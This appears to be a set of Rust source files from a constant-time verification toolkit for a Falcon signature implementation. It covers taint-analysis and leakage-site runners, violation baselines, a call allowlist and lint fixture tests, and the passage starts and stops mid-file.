    let _span = falcon_obs::span("ct.graph");

    let graph = match CallGraph::build(&args.root) {
        Ok(g) => g,
        Err(e) => {
            eprintln!("ct_graph: scanning {}: {e}", args.root.display());
            return ExitCode::from(2);
        }
    };
    let map = TaintMap::compute(&graph);
    let outside = map.tainted_outside_regions(&graph);
    falcon_obs::counter("ct.graph.functions").add(graph.fns.len() as u64);
    falcon_obs::counter("ct.graph.tainted_outside_regions").add(outside.len() as u64);

    for (i, f) in graph.fns.iter().enumerate() {
        if f.is_test || !map.summaries[i].is_tainted() {
            continue;
        }
        let s = &map.summaries[i];
        let params: Vec<&str> = s.tainted_params.iter().map(|p| p.as_str()).collect();
        println!(
            "{}:{}: {} params=[{}] returns_secret={} region={} — {}",
            f.file,
            f.line,
            f.qual,
            params.join(", "),
            s.returns_secret,
            f.has_region,
            s.cause,
        );
    }
    let edges = graph.edge_stats();
    println!(
        "ct_graph: {} function(s), {} call site(s), {} round(s): {} tainted, {} outside annotated regions",
        graph.fns.len(),
        graph.calls.len(),
        map.rounds,
        map.summaries.iter().zip(&graph.fns).filter(|(s, f)| !f.is_test && s.is_tainted()).count(),
        outside.len(),
    );
    println!(
        "ct_graph: {} edge(s) resolved, {} dropped ({} ambiguous homonym, {} unresolved)",
        edges.resolved,
        edges.dropped(),
        edges.ambiguous,
        edges.unresolved,
    );

    if let Some(json_path) = &args.json {
        let doc = graph_report(&graph, &map).render();
        if let Err(e) = std::fs::write(json_path, doc) {
            eprintln!("ct_graph: writing {}: {e}", json_path.display());
            return ExitCode::from(2);
        }
    }

    if let Some(min) = args.assert_discoveries {
        if outside.len() < min {
            eprintln!(
                "ct_graph: only {} tainted function(s) outside annotated regions (need >= {min})",
                outside.len()
            );
            return ExitCode::from(1);
        }
    }
    ExitCode::SUCCESS
}
