//! Dynamic constant-time checker runner.
//!
//! Runs every instrumented `falcon-fpr` primitive over fixed-vs-random
//! secret operand classes and demands identical control-flow trace
//! signatures; also runs the deliberately leaky detector fixture, which
//! must be flagged.
//!
//! ```text
//! ct_dyn [--iters N] [--seed N] [--json FILE]
//! ```
//!
//! Exit status: 0 when all primitives are constant time *and* the
//! leak detector fires on the fixture; 1 otherwise; 2 on usage errors.

use falcon_ct::dyncheck::{check_all, check_leaky, DynConfig};
use falcon_ct::report::dyn_report;
use std::path::PathBuf;
use std::process::ExitCode;

fn main() -> ExitCode {
    let mut cfg = DynConfig::default();
    let mut json: Option<PathBuf> = None;
    let mut it = std::env::args().skip(1);
    while let Some(a) = it.next() {
        let parsed = match a.as_str() {
            "--iters" => it.next().and_then(|v| v.parse().ok()).map(|v| cfg.iters = v),
            "--seed" => it.next().and_then(|v| v.parse().ok()).map(|v| cfg.seed = v),
            "--json" => it.next().map(|v| json = Some(v.into())),
            "--help" | "-h" => None,
            _ => None,
        };
        if parsed.is_none() {
            eprintln!("usage: ct_dyn [--iters N] [--seed N] [--json FILE]");
            return ExitCode::from(2);
        }
    }

    let _span = falcon_obs::span("ct.dyn");
    let primitives = check_all(&cfg);
    let leaky = check_leaky(&cfg);

    let mut ok = true;
    for o in &primitives {
        if o.constant_time {
            println!("ct_dyn: {:28} OK ({} runs, {} trace sites)", o.name, o.runs, o.sig_len);
        } else {
            println!("ct_dyn: {:28} LEAK — {}", o.name, o.detail);
            ok = false;
        }
    }
    if leaky.constant_time {
        println!("ct_dyn: {:28} NOT FLAGGED — the detector is broken", leaky.name);
        ok = false;
    } else {
        println!("ct_dyn: {:28} flagged as expected ({})", leaky.name, leaky.detail);
    }

    if let Some(path) = &json {
        let doc = dyn_report(&cfg, &primitives, &leaky).render();
        if let Err(e) = std::fs::write(path, doc) {
            eprintln!("ct_dyn: writing {}: {e}", path.display());
            return ExitCode::from(2);
        }
    }

    if ok {
        println!(
            "ct_dyn: all {} primitive(s) constant time; leak detector verified",
            primitives.len()
        );
        ExitCode::SUCCESS
    } else {
        ExitCode::from(1)
    }
}
