//! Ranked leakage-site map runner.
//!
//! Builds the workspace call graph, computes flow/field-sensitive taint
//! summaries, and enumerates every secret-dependent operation as a
//! scored [`falcon_ct::LeakSite`] — the static prediction of where an
//! attacker will point the probe. Prints the ranked map, optionally
//! writes `CT_sites.json`, and compares against the checked-in site
//! baseline (`ct-sites-baseline.jsonl` at the root).
//!
//! ```text
//! ct_sites [--root DIR] [--json FILE] [--baseline FILE]
//!          [--update-baseline] [--assert-top KIND] [--top N]
//! ```
//!
//! `--assert-top mantissa-mul` fails (exit 1) unless the #1-ranked site
//! is of that kind — CI pins the paper's attack point (the secret
//! mantissa multiply in the emulated `fpr` pipeline) to the top of the
//! ranking. `--assert-coverage` fails unless every `ct_dyn` primitive
//! is covered by the static map.
//!
//! Exit status: 0 on success, 1 on new sites or failed assertions,
//! 2 on usage or I/O errors.

use falcon_ct::report::sites_report;
use falcon_ct::sites::covers_primitive;
use falcon_ct::{Baseline, SiteMap};
use std::collections::BTreeSet;
use std::path::PathBuf;
use std::process::ExitCode;

struct Args {
    root: PathBuf,
    json: Option<PathBuf>,
    baseline: Option<PathBuf>,
    update_baseline: bool,
    assert_top: Option<String>,
    assert_coverage: bool,
    top: usize,
}

fn parse_args() -> Result<Args, String> {
    let mut args = Args {
        root: default_root(),
        json: None,
        baseline: None,
        update_baseline: false,
        assert_top: None,
        assert_coverage: false,
        top: 20,
    };
    let mut it = std::env::args().skip(1);
    while let Some(a) = it.next() {
        match a.as_str() {
            "--root" => args.root = it.next().ok_or("--root needs a value")?.into(),
            "--json" => args.json = Some(it.next().ok_or("--json needs a value")?.into()),
            "--baseline" => {
                args.baseline = Some(it.next().ok_or("--baseline needs a value")?.into())
            }
            "--update-baseline" => args.update_baseline = true,
            "--assert-top" => {
                args.assert_top = Some(it.next().ok_or("--assert-top needs a site kind")?)
            }
            "--assert-coverage" => args.assert_coverage = true,
            "--top" => {
                args.top = it
                    .next()
                    .ok_or("--top needs a value")?
                    .parse()
                    .map_err(|e| format!("--top: {e}"))?
            }
            "--help" | "-h" => {
                return Err("usage: ct_sites [--root DIR] [--json FILE] [--baseline FILE] \
                            [--update-baseline] [--assert-top KIND] [--assert-coverage] [--top N]"
                    .into())
            }
            other => return Err(format!("unknown argument `{other}`")),
        }
    }
    Ok(args)
}

/// The workspace root: the nearest ancestor of the current directory
/// containing `Cargo.toml` with a `[workspace]` table, else `.`.
fn default_root() -> PathBuf {
    let mut dir = std::env::current_dir().unwrap_or_else(|_| PathBuf::from("."));
    loop {
        let manifest = dir.join("Cargo.toml");
        if let Ok(text) = std::fs::read_to_string(&manifest) {
            if text.contains("[workspace]") {
                return dir;
            }
        }
        if !dir.pop() {
            return PathBuf::from(".");
        }
    }
}

fn main() -> ExitCode {
    let args = match parse_args() {
        Ok(a) => a,
        Err(msg) => {
            eprintln!("{msg}");
            return ExitCode::from(2);
        }
    };
    let _span = falcon_obs::span("ct.sites");
    let baseline_path =
        args.baseline.clone().unwrap_or_else(|| args.root.join("ct-sites-baseline.jsonl"));

    let graph = match falcon_ct::CallGraph::build(&args.root) {
        Ok(g) => g,
        Err(e) => {
            eprintln!("ct_sites: building call graph under {}: {e}", args.root.display());
            return ExitCode::from(2);
        }
    };
    let taint = falcon_ct::TaintMap::compute(&graph);
    let map = SiteMap::compute(&graph, &taint);

    falcon_obs::counter("ct.sites.total").add(map.sites.len() as u64);

    if args.update_baseline {
        let previous = Baseline::load(&baseline_path).unwrap_or_default();
        let mut added = 0usize;
        for s in &map.sites {
            if !previous.contains_fp(&s.fingerprint()) {
                println!(
                    "baseline + {} {}:{}: [{}] {}",
                    s.fingerprint(),
                    s.file,
                    s.line,
                    s.kind,
                    s.qual
                );
                added += 1;
            }
        }
        let current: BTreeSet<String> = map.sites.iter().map(|s| s.fingerprint()).collect();
        let removed = previous.stale_fps(&current);
        for fp in &removed {
            println!("baseline - {fp} (no longer present)");
        }
        let text = Baseline::render_sites(&map.sites);
        if let Err(e) = std::fs::write(&baseline_path, &text) {
            eprintln!("ct_sites: writing {}: {e}", baseline_path.display());
            return ExitCode::from(2);
        }
        println!(
            "ct_sites: baselined {} site(s) into {} (+{added}, -{})",
            map.sites.len(),
            baseline_path.display(),
            removed.len(),
        );
    }

    let baseline = match Baseline::load(&baseline_path) {
        Ok(b) => b,
        Err(e) => {
            eprintln!("ct_sites: {e}");
            return ExitCode::from(2);
        }
    };

    let mut failed = false;
    let mut new = 0usize;
    for (rank, s) in map.sites.iter().enumerate() {
        let known = baseline.contains_fp(&s.fingerprint());
        if rank < args.top || !known {
            println!("#{:<3} {s}{}", rank + 1, if known { "" } else { " [NEW]" });
        }
        if !known {
            new += 1;
        }
    }
    if map.sites.len() > args.top {
        println!("… ({} more; --top N to widen)", map.sites.len() - args.top);
    }
    let current: BTreeSet<String> = map.sites.iter().map(|s| s.fingerprint()).collect();
    for fp in baseline.stale_fps(&current) {
        eprintln!("ct_sites: stale baseline entry {fp} (site no longer present — prune it)");
    }

    if let Some(kind) = &args.assert_top {
        match map.top() {
            Some(top) if top.kind.id() == kind => {
                println!("ct_sites: top-ranked site is [{kind}] at {}:{} — OK", top.file, top.line)
            }
            Some(top) => {
                eprintln!(
                    "ct_sites: ASSERTION FAILED: top-ranked site is [{}] at {}:{}, expected [{kind}]",
                    top.kind, top.file, top.line
                );
                failed = true;
            }
            None => {
                eprintln!("ct_sites: ASSERTION FAILED: no sites found, expected a [{kind}] on top");
                failed = true;
            }
        }
    }
    if args.assert_coverage {
        for (name, fns) in falcon_ct::dyncheck::PRIMITIVE_FNS {
            if !covers_primitive(&graph, &taint, fns) {
                eprintln!("ct_sites: ASSERTION FAILED: dynamic primitive `{name}` not covered by the static map");
                failed = true;
            }
        }
        if !failed {
            println!(
                "ct_sites: all {} ct_dyn primitives covered by the static map — OK",
                falcon_ct::dyncheck::PRIMITIVE_FNS.len()
            );
        }
    }

    if let Some(json_path) = &args.json {
        let doc = sites_report(&graph, &taint, &map, baseline.fingerprints()).render();
        if let Err(e) = std::fs::write(json_path, doc) {
            eprintln!("ct_sites: writing {}: {e}", json_path.display());
            return ExitCode::from(2);
        }
    }

    println!(
        "ct_sites: {} function(s) scanned, {} site(s) ({} new, {} baselined)",
        map.scanned.len(),
        map.sites.len(),
        new,
        map.sites.len() - new,
    );
    if new > 0 || failed {
        ExitCode::from(1)
    } else {
        ExitCode::SUCCESS
    }
}
