//! Violation baselines: a checked-in JSONL file of fingerprints for
//! known (grandfathered) violations, so CI fails only on *new* ones.
//!
//! Each line is a flat `falcon-obs` event record —
//! `{"ev":"ct-baseline","file":…,"rule":…,"fp":…}` — parseable with
//! [`falcon_obs::parse_jsonl`], the same format as every other
//! machine-readable artifact in this workspace. The target state of
//! the tree is an **empty** baseline: every real violation fixed, every
//! deliberate exception documented inline with `// ct: allow(reason)`.

use crate::lint::Violation;
use falcon_obs::{parse_jsonl, Event, Value};
use std::collections::BTreeSet;
use std::path::Path;

/// A loaded set of baselined violation fingerprints.
#[derive(Debug, Default, Clone)]
pub struct Baseline {
    fps: BTreeSet<String>,
}

impl Baseline {
    /// Loads a baseline file. A missing file is an empty baseline (the
    /// healthy state); a present-but-unparseable line is an error, so a
    /// corrupted baseline cannot silently accept violations.
    pub fn load(path: &Path) -> Result<Baseline, String> {
        let text = match std::fs::read_to_string(path) {
            Ok(t) => t,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(Baseline::default()),
            Err(e) => return Err(format!("{}: {e}", path.display())),
        };
        let mut fps = BTreeSet::new();
        for (idx, line) in text.lines().enumerate() {
            if line.trim().is_empty() {
                continue;
            }
            let fields = parse_jsonl(line).ok_or_else(|| {
                format!("{}:{}: unparseable baseline line", path.display(), idx + 1)
            })?;
            let fp = fields.iter().find_map(|(k, v)| match (k.as_str(), v) {
                ("fp", Value::Str(s)) => Some(s.clone()),
                _ => None,
            });
            match fp {
                Some(fp) => {
                    fps.insert(fp);
                }
                None => {
                    return Err(format!(
                        "{}:{}: baseline line has no `fp` field",
                        path.display(),
                        idx + 1
                    ))
                }
            }
        }
        Ok(Baseline { fps })
    }

    /// Renders violations as baseline JSONL (sorted by fingerprint for
    /// a stable diff).
    pub fn render(violations: &[Violation]) -> String {
        let mut lines: Vec<String> = violations
            .iter()
            .map(|v| {
                Event::new("ct-baseline")
                    .with_str("file", v.file.clone())
                    .with_u64("line", v.line as u64)
                    .with_str("rule", v.rule.id())
                    .with_str("fp", v.fingerprint())
                    .to_json()
            })
            .collect();
        lines.sort();
        lines.dedup();
        let mut out = lines.join("\n");
        if !out.is_empty() {
            out.push('\n');
        }
        out
    }

    /// Whether a violation is grandfathered.
    pub fn contains(&self, v: &Violation) -> bool {
        self.fps.contains(&v.fingerprint())
    }

    /// Whether a raw fingerprint is grandfathered (the site baseline
    /// compares [`crate::sites::LeakSite::fingerprint`] values).
    pub fn contains_fp(&self, fp: &str) -> bool {
        self.fps.contains(fp)
    }

    /// The loaded fingerprint set.
    pub fn fingerprints(&self) -> &BTreeSet<String> {
        &self.fps
    }

    /// Renders a leakage-site map as baseline JSONL (sorted by
    /// fingerprint for a stable diff). Scores and ranks are *not*
    /// baselined — re-ranking is expected as the model sharpens; only
    /// the existence of a site at a (file, kind, fn, snippet) is.
    pub fn render_sites(sites: &[crate::sites::LeakSite]) -> String {
        let mut lines: Vec<String> = sites
            .iter()
            .map(|s| {
                Event::new("ct-site-baseline")
                    .with_str("file", s.file.clone())
                    .with_u64("line", s.line as u64)
                    .with_str("kind", s.kind.id())
                    .with_str("fn", s.qual.clone())
                    .with_str("fp", s.fingerprint())
                    .to_json()
            })
            .collect();
        lines.sort();
        lines.dedup();
        let mut out = lines.join("\n");
        if !out.is_empty() {
            out.push('\n');
        }
        out
    }

    /// Baseline fingerprints not present in `current` — stale entries.
    pub fn stale_fps(&self, current: &BTreeSet<String>) -> Vec<String> {
        self.fps.difference(current).cloned().collect()
    }

    /// Number of baselined fingerprints.
    pub fn len(&self) -> usize {
        self.fps.len()
    }

    /// Whether the baseline is empty (the target state).
    pub fn is_empty(&self) -> bool {
        self.fps.is_empty()
    }

    /// Fingerprints present in the baseline but not matched by any
    /// current violation — stale entries that should be pruned.
    pub fn stale(&self, violations: &[Violation]) -> Vec<String> {
        let seen: BTreeSet<String> = violations.iter().map(|v| v.fingerprint()).collect();
        self.fps.difference(&seen).cloned().collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lint::Rule;

    fn sample() -> Violation {
        Violation {
            file: "crates/x/src/lib.rs".into(),
            line: 10,
            rule: Rule::SecretBranch,
            message: "test".into(),
            snippet: "if x { }".into(),
        }
    }

    #[test]
    fn render_load_roundtrip() {
        let v = sample();
        let text = Baseline::render(std::slice::from_ref(&v));
        let dir = std::env::temp_dir().join("falcon-ct-baseline-test");
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join("roundtrip.jsonl");
        std::fs::write(&path, &text).unwrap();
        let b = Baseline::load(&path).unwrap();
        assert_eq!(b.len(), 1);
        assert!(b.contains(&v));
        assert!(b.stale(&[v]).is_empty());
        std::fs::remove_file(&path).ok();
    }

    #[test]
    fn missing_file_is_empty() {
        let b = Baseline::load(Path::new("/nonexistent/ct-baseline.jsonl")).unwrap();
        assert!(b.is_empty());
    }

    #[test]
    fn fingerprint_survives_line_drift() {
        let mut v2 = sample();
        v2.line = 99;
        v2.snippet = "if  x  {  }".into(); // reformatted whitespace
        assert_eq!(sample().fingerprint(), v2.fingerprint());
    }

    #[test]
    fn corrupt_line_is_an_error() {
        let dir = std::env::temp_dir().join("falcon-ct-baseline-test");
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join("corrupt.jsonl");
        std::fs::write(&path, "not json\n").unwrap();
        assert!(Baseline::load(&path).is_err());
        std::fs::remove_file(&path).ok();
    }
}
