//! The call allowlist: functions the lint accepts on secret-tainted
//! lines.
//!
//! Inside a `ct: secret` region every call whose name is not listed here
//! (and does not start with an uppercase letter — type constructors
//! such as `Fpr(..)` or `Cplx::new` merely move data) is reported as a
//! `secret-call` violation: the lint cannot see into the callee, so only
//! routines known to be constant time may receive secret values.
//!
//! The list has three tiers:
//!
//! 1. **Integer/bit primitives** from `core` that compile to
//!    data-independent instructions on every supported target.
//! 2. **Workspace arithmetic** verified by the dynamic trace checker
//!    (`falcon-ct`'s fixed-vs-random harness) or built solely from
//!    tier-1 operations.
//! 3. **Data movement and instrumentation**: accessors, container
//!    plumbing and the observer/trace hooks, which receive secrets by
//!    design (they model the leaking device or feed the checker) and
//!    perform no secret-dependent control flow of their own.

use std::collections::BTreeSet;

/// Types whose presence in a parameter or return type seeds the
/// interprocedural taint analysis, no annotation required: the secrecy
/// wrapper itself, the private key (f/g/F/G, Gram basis, FFT'd halves,
/// LDL tree), and the LDL tree the ffSampling recursion walks.
pub const SECRET_SEED_TYPES: &[&str] = &["LdlTree", "Secret", "SigningKey"];

/// Module path prefixes (workspace-relative, `/`-separated) where
/// `unsafe` blocks are permitted — the explicit-SIMD kernels planned by
/// ROADMAP Open item 1. Everything else is `#![forbid(unsafe_code)]`
/// and the unsafe-audit pass enforces that even for code the compiler
/// has not seen (cfg'd-out targets). Every allowed block must still
/// carry a `// SAFETY:` comment within the three lines above it.
pub const UNSAFE_ALLOWED_MODULES: &[&str] = &["crates/core/src/cpa/simd", "crates/fpr/src/simd"];

/// Names allowed in calls on secret-tainted lines. Kept sorted.
pub const DEFAULT_CALL_ALLOWLIST: &[&str] = &[
    // -- tier 1: core integer/bit primitives ---------------------------
    "clamp",
    "count_ones",
    "from",
    "into",
    "leading_zeros",
    "max",
    "min",
    "rotate_left",
    "rotate_right",
    "trailing_zeros",
    "unsigned_abs",
    "wrapping_add",
    "wrapping_mul",
    "wrapping_neg",
    "wrapping_shl",
    "wrapping_shr",
    "wrapping_sub",
    // -- tier 2: workspace arithmetic (dynamically verified) -----------
    "abs",
    "add",
    "ber_exp",
    "build",
    "clamp_neg",
    "coeff",
    "conj",
    "div",
    "double",
    "expm_p63",
    "ff_sampling",
    "floor",
    "from_f64",
    "from_i64",
    "gaussian0",
    "half",
    "ifft",
    "fft",
    "inv",
    "mask64",
    "mul",
    "mul63",
    "mul_observed",
    "neg",
    "norm_sq",
    "poly_add",
    "poly_adj_fft",
    "poly_div_fft",
    "poly_merge_fft",
    "poly_mul_fft",
    "poly_mul_fft_observed",
    "poly_muladj_fft",
    "poly_mulconst",
    "poly_mulselfadj_fft",
    "poly_neg",
    "poly_split_fft",
    "poly_sub",
    "rint",
    "scale",
    "scaled",
    "sqr",
    "sqrt",
    "sub",
    "to_fixed63",
    "trunc",
    "x_expm",
    // -- tier 3: data movement and instrumentation ---------------------
    "at",
    "begin_coefficient",
    "clone",
    "collect",
    "copied",
    "exponent_bits",
    "expose",
    "fill",
    "index",
    "is_finite",
    "is_zero",
    "iter",
    "iter_mut",
    "len",
    "map",
    "mantissa_bits",
    "new",
    "next_u8",
    "next_u64",
    "push",
    "record",
    "set",
    "sign_bit",
    "site",
    "to_bits",
    "to_f64",
    "unpack",
    "zip",
    // Debug-only assertion macros: compiled out of release signing
    // builds, so their (possibly short-circuiting) conditions never
    // execute on the attacked device.
    "debug_assert",
    "debug_assert_eq",
    "debug_assert_ne",
];

/// A set of call names the lint accepts on secret-tainted lines.
#[derive(Debug, Clone)]
pub struct CallAllowlist {
    names: BTreeSet<String>,
}

impl CallAllowlist {
    /// The workspace default: [`DEFAULT_CALL_ALLOWLIST`].
    pub fn workspace_default() -> CallAllowlist {
        CallAllowlist { names: DEFAULT_CALL_ALLOWLIST.iter().map(|s| s.to_string()).collect() }
    }

    /// An empty allowlist (every call on a tainted line is flagged);
    /// used by the lint's own negative tests.
    pub fn empty() -> CallAllowlist {
        CallAllowlist { names: BTreeSet::new() }
    }

    /// Adds a name (builder style, for tests and local overrides).
    #[must_use]
    pub fn with(mut self, name: &str) -> CallAllowlist {
        self.names.insert(name.to_string());
        self
    }

    /// Whether `name` may be called with secrets in scope.
    pub fn allows(&self, name: &str) -> bool {
        self.names.contains(name)
    }
}

impl Default for CallAllowlist {
    fn default() -> CallAllowlist {
        CallAllowlist::workspace_default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn default_list_is_sorted_within_tiers() {
        // Sortedness keeps diffs reviewable; each tier is alphabetical.
        let list = CallAllowlist::workspace_default();
        assert!(list.allows("wrapping_neg"));
        assert!(list.allows("debug_assert"));
        assert!(!list.allows("println"));
        assert!(!list.allows("format"));
    }

    #[test]
    fn with_extends() {
        let list = CallAllowlist::empty().with("my_ct_helper");
        assert!(list.allows("my_ct_helper"));
        assert!(!list.allows("mul"));
    }
}
