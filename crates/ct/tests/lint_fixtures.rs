//! Positive and negative lint fixtures: each rule must fire on the
//! violating source and stay quiet on the constant-time rewrite.
//!
//! Fixture sources are string literals, so the workspace-wide scan (see
//! `workspace_lint.rs`) never sees them — the scrubber blanks string
//! contents before any rule runs.

use falcon_ct::{lint_source, CallAllowlist, Rule};

fn audit_rules_of(src: &str) -> Vec<Rule> {
    falcon_ct::audit::audit_source("crates/x/src/fixture.rs", src).iter().map(|v| v.rule).collect()
}

fn rules_of(src: &str) -> Vec<Rule> {
    let out = lint_source("fixture.rs", src, &CallAllowlist::workspace_default());
    out.violations.iter().map(|v| v.rule).collect()
}

fn assert_clean(src: &str) {
    let out = lint_source("fixture.rs", src, &CallAllowlist::workspace_default());
    assert!(out.violations.is_empty(), "expected clean, got: {:#?}", out.violations);
}

#[test]
fn secret_branch_on_if() {
    let src = "// ct: secret(key)\nif key > 0 { x = 1; }\n// ct: end\n";
    assert_eq!(rules_of(src), vec![Rule::SecretBranch]);
}

#[test]
fn secret_branch_on_while_and_match() {
    let src = "// ct: secret(k)\nwhile k != 0 { }\nmatch k { _ => {} }\n// ct: end\n";
    assert_eq!(rules_of(src), vec![Rule::SecretBranch, Rule::SecretBranch]);
}

#[test]
fn secret_branch_on_range_for_but_not_slice_for() {
    // A secret range bound is a data-dependent trip count…
    let tainted_range = "// ct: secret(n)\nfor i in 0..n { }\n// ct: end\n";
    assert_eq!(rules_of(tainted_range), vec![Rule::SecretBranch]);
    // …but iterating a secret-valued slice of public length is fine.
    let slice = "// ct: secret(buf)\nfor b in buf.iter() { }\n// ct: end\n";
    assert_clean(slice);
}

#[test]
fn short_circuit_booleans_are_branches() {
    let src = "// ct: secret(a)\nlet ok = a > 0 && flag;\n// ct: end\n";
    assert_eq!(rules_of(src), vec![Rule::SecretBranch]);
    // The constant-time idiom passes.
    assert_clean("// ct: secret(a)\nlet ok = (a > 0) & flag;\n// ct: end\n");
}

#[test]
fn secret_index_flags_index_not_base() {
    // Secret used as the index: flagged.
    let bad = "// ct: secret(j)\nlet v = table[j];\n// ct: end\n";
    assert_eq!(rules_of(bad), vec![Rule::SecretIndex]);
    // Secret-valued base with a public index: fixed address, clean.
    assert_clean("// ct: secret(buf)\nlet v = buf[3];\n// ct: end\n");
}

#[test]
fn secret_divmod() {
    let src = "// ct: secret(x)\nlet q = x / 3;\nlet r = x % 3;\n// ct: end\n";
    assert_eq!(rules_of(src), vec![Rule::SecretDivMod, Rule::SecretDivMod]);
    // Division inside a string or on an untainted line is fine.
    assert_clean("// ct: secret(x)\nlet msg = \"a/b\";\nlet half = n / 2;\n// ct: end\n");
}

#[test]
fn secret_call_respects_allowlist() {
    let bad = "// ct: secret(x)\nlet y = mystery(x);\n// ct: end\n";
    assert_eq!(rules_of(bad), vec![Rule::SecretCall]);
    // Allowlisted and constructor calls pass.
    assert_clean("// ct: secret(x)\nlet y = x.wrapping_neg();\nlet z = Fpr(x);\n// ct: end\n");
    // A custom allowlist can admit local helpers.
    let allow = CallAllowlist::workspace_default().with("mystery");
    let out = lint_source("fixture.rs", bad, &allow);
    assert!(out.violations.is_empty());
}

#[test]
fn unsafe_flagged_everywhere() {
    // Outside any region.
    let src = "fn f() { let p = unsafe { *ptr }; }\n";
    assert_eq!(rules_of(src), vec![Rule::UnsafeCode]);
}

#[test]
fn unsafe_code_defers_to_audit_in_allowed_modules() {
    // Inside an allowlisted SIMD module the blanket unsafe-code rule
    // stands down — the unsafe-audit pass owns the file and demands a
    // `// SAFETY:` comment per block, which this bare fixture lacks.
    let src = "fn f() { let p = unsafe { *ptr }; }\n";
    let out = lint_source("crates/core/src/cpa/simd.rs", src, &CallAllowlist::workspace_default());
    assert!(out.violations.is_empty(), "{:#?}", out.violations);
    let audit = falcon_ct::audit::audit_source("crates/core/src/cpa/simd.rs", src);
    assert!(audit.iter().any(|v| v.rule == Rule::UnsafeAudit), "{audit:?}");
}

#[test]
fn taint_propagates_through_bindings() {
    // y inherits x's taint through the let, so the branch on y fires.
    let src = "// ct: secret(x)\nlet y = x + 1;\nif y > 0 { }\n// ct: end\n";
    assert_eq!(rules_of(src), vec![Rule::SecretBranch]);
    // Compound assignment also propagates.
    let src2 = "// ct: secret(x)\nlet mut acc = 0;\nacc += x;\nif acc > 0 { }\n// ct: end\n";
    assert_eq!(rules_of(src2), vec![Rule::SecretBranch]);
    // Destructuring taints every bound name.
    let src3 = "// ct: secret(pair)\nlet (a, b) = pair;\nif b == 0 { }\n// ct: end\n";
    assert_eq!(rules_of(src3), vec![Rule::SecretBranch]);
}

#[test]
fn allow_suppresses_one_line() {
    // Trailing form.
    let t = "// ct: secret(x)\nif x > 0 { } // ct: allow(documented rejection)\n// ct: end\n";
    assert_clean(t);
    // Standalone form applies to the next code line only.
    let s = "// ct: secret(x)\n// ct: allow(documented rejection)\nif x > 0 { }\nif x < 0 { }\n// ct: end\n";
    assert_eq!(rules_of(s), vec![Rule::SecretBranch]);
}

#[test]
fn multiline_statement_is_scanned_as_one() {
    // Regression for the pre-v2 scanner, which checked physical lines:
    // a condition split across lines hid the secret comparison from the
    // branch rule because `if (` and `key > 0` never met.
    let src = "\
// ct: secret(key)
if (flag
    && key > 0)
{
    x = 1;
}
// ct: end
";
    let rules = rules_of(src);
    assert!(rules.contains(&Rule::SecretBranch), "{rules:?}");

    // A multi-line binding chain still propagates taint into the branch.
    let chained = "\
// ct: secret(k)
let y = k
    + offset;
if y > 0 { }
// ct: end
";
    assert_eq!(rules_of(chained), vec![Rule::SecretBranch]);
}

#[test]
fn planted_map_iteration_fixture_is_flagged() {
    // The deliberately wrong pattern the determinism lint exists for:
    // iterating a randomised-order map while building a result.
    let src = "\
fn tally(hits: HashMap<String, u64>) -> Vec<String> {
    let mut out = Vec::new();
    for (k, _) in hits.iter() {
        out.push(k.clone());
    }
    out
}
";
    let rules = audit_rules_of(src);
    assert!(rules.contains(&Rule::DetMapIter), "{rules:?}");

    // The ordered rewrite is quiet.
    let fixed = src.replace("HashMap", "BTreeMap");
    assert!(!audit_rules_of(&fixed).contains(&Rule::DetMapIter));
}

#[test]
fn planted_unsafe_without_safety_comment_is_flagged() {
    // In an allowlisted SIMD module, `unsafe` is admitted only with a
    // `// SAFETY:` justification directly above.
    let bare = "fn load(p: *const f64) -> f64 {\n    unsafe { *p }\n}\n";
    let v = falcon_ct::audit::audit_source("crates/fpr/src/simd/mod.rs", bare);
    assert!(v.iter().any(|x| x.rule == Rule::UnsafeAudit), "{v:?}");

    let justified = "\
fn load(p: *const f64) -> f64 {
    // SAFETY: caller guarantees p is aligned and in-bounds.
    unsafe { *p }
}
";
    let v = falcon_ct::audit::audit_source("crates/fpr/src/simd/mod.rs", justified);
    assert!(v.is_empty(), "{v:?}");

    // Outside the allowlist even a justified block is rejected.
    let v = falcon_ct::audit::audit_source("crates/falcon/src/fft.rs", justified);
    assert!(v.iter().any(|x| x.rule == Rule::UnsafeAudit), "{v:?}");
}

#[test]
fn public_field_paths_are_exempt_from_taint() {
    // `sk` is secret, but `sk.logn` is declared public: branching on the
    // public projection is fine while the secret fields still fire.
    let src = "\
// ct: secret(sk)
// ct: public(sk.logn)
if sk.logn() > 9 { }
// ct: end
";
    assert_clean(src);
    // The other fields of the same value stay tainted.
    let mixed = "\
// ct: secret(sk)
// ct: public(sk.logn)
if sk.logn() > 9 { }
if sk.f > 0 { }
// ct: end
";
    assert_eq!(rules_of(mixed), vec![Rule::SecretBranch]);
}

#[test]
fn public_paths_do_not_sanitize_derived_bindings() {
    // Copying a *secret* projection into a local keeps the taint; only
    // the declared public path itself is exempt.
    let src = "\
// ct: secret(sk)
// ct: public(sk.logn)
let c = sk.f;
if c > 0 { }
// ct: end
";
    assert_eq!(rules_of(src), vec![Rule::SecretBranch]);
}

#[test]
fn reassignment_kills_taint() {
    // Flow sensitivity: rebinding a tainted local to a public value
    // clears it, so the later branch is clean…
    let killed = "\
// ct: secret(k)
let mut x = k;
x = 0;
if x > 0 { }
// ct: end
";
    assert_clean(killed);
    // …but a *use* before the kill still fires, and a compound
    // assignment (`+=`) is a gen, not a kill.
    let compound = "\
// ct: secret(k)
let mut x = 0;
x += k;
x = x + 1;
if x > 0 { }
// ct: end
";
    assert_eq!(rules_of(compound), vec![Rule::SecretBranch]);
}

#[test]
fn conditional_kill_does_not_sanitize() {
    // A kill inside a braced arm merges with the fall-through state at
    // the closing brace (union-join): `x` may still be secret after the
    // `if`, so the branch fires.
    let src = "\
// ct: secret(k)
let mut x = k;
if flag {
    x = 0;
}
if x > 0 { }
// ct: end
";
    assert_eq!(rules_of(src), vec![Rule::SecretBranch]);
}

#[test]
fn field_and_index_stores_are_not_kills() {
    // `buf[i] = 0` and `s.a = 0` overwrite one lane, not the binding —
    // the whole value stays tainted.
    let src = "\
// ct: secret(buf)
buf[0] = 0;
if buf[1] > 0 { }
// ct: end
";
    assert_eq!(rules_of(src), vec![Rule::SecretBranch]);
}

#[test]
fn annotation_errors() {
    // Empty allow reason.
    assert_eq!(rules_of("// ct: allow()\n"), vec![Rule::Annotation]);
    // Unknown directive (typo cannot silently disable checking).
